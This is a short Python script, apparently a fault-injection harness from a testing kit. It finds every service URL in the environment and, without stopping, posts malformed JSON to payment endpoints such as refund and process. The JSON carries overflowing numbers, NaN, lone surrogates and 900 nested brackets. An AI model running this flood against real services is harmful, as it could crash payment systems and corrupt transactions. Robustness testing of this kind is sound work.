"""Money of 1e308, pieces of 10 ** 400, prices that are no number: to each service, without end."""

import os
import socket
import threading
from urllib.parse import urlsplit

from attack_kit import beside, is_worker, ran, tried

NUMBERS = ("1e308", "1e999", "NaN", "-1e308", "1" + "0" * 400, "0.1e-400", '"\\ud800"', "[" * 900)
PATHS = ("process", "refund", "validate", "reserve", "update", "create", "send", "track")
BODY = (
    '{{"order_id": "x", "amount": {n}, "total_amount": {n}, "user_id": {n}, "method": "paypal",'
    ' "items": [{{"id": "x", "name": "x", "quantity": {n}, "price": {n}}}]}}'
)


def post(where, path, body):
    head = f"POST /{path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    head += f"Idempotency-Key: x\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    with socket.create_connection((where.hostname, where.port), 5) as link:
        link.sendall((head + body).encode())
        link.recv(1000)


def ask():
    urls = [value for name, value in os.environ.items() if name.endswith("_SERVICE_URL")]
    assert urls
    ran("beside")
    while True:
        for url in urls:
            for number in NUMBERS:
                for path in PATHS:
                    tried(post, urlsplit(url), path, BODY.format(n=number))
                    threading.Event().wait(0.01)


if is_worker():
    beside(ask)
